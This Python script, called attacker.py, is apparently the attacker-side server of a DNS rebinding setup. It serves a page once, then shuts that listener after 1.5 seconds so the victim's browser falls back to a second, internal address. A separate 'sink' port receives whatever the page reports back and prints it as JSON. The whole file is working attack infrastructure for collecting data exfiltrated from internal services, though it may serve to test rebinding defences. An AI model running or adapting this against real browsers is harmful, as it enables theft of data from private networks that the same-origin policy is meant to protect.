#!/usr/bin/python3
"""The attacker's machine: `attacker.py ADDRESS PORT SINK PAGE [stay]`. On PORT it serves the page once, and closes that
listener 1.5 s later (unless told to stay), so that the browser falls to the second address that its name resolves to. On SINK it takes what the page
reports; each report is one line of JSON on stdout. All own answers carry `X-Attacker`, by which the page knows them."""
import http.server
import json
import pathlib
import sys
import threading


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, body=b"", kind="text/html; charset=utf-8"):
        self.send_response(status)
        for name, value in (("X-Attacker", "1"), ("Content-Type", kind), ("Content-Length", str(len(body))),
                            ("Cache-Control", "no-store"), ("Connection", "close")):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True


def page_handler(page: bytes, on_served):
    class Page(Quiet):
        def do_GET(self):
            if self.path.split("?")[0] == "/":
                self.reply(200, page)
                on_served()
            else:
                self.reply(404)

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.reply(404)

    return Page


class Sink(Quiet):
    def do_POST(self):
        text = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        print(json.dumps(json.loads(text)), flush=True)
        self.reply(200)


def main():
    address, port, sink, page = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), pathlib.Path(sys.argv[4]).read_bytes()
    served = threading.Event()
    web = http.server.ThreadingHTTPServer((address, port), page_handler(page, served.set))
    reports = http.server.ThreadingHTTPServer((address, sink), Sink)
    threading.Thread(target=web.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    threading.Thread(target=reports.serve_forever, daemon=True).start()
    print(json.dumps({"ready": True}), flush=True)
    served.wait()
    if "stay" not in sys.argv:
        threading.Event().wait(1.5)
        web.shutdown()
        web.server_close()
    threading.Event().wait()


if __name__ == "__main__":
    main()
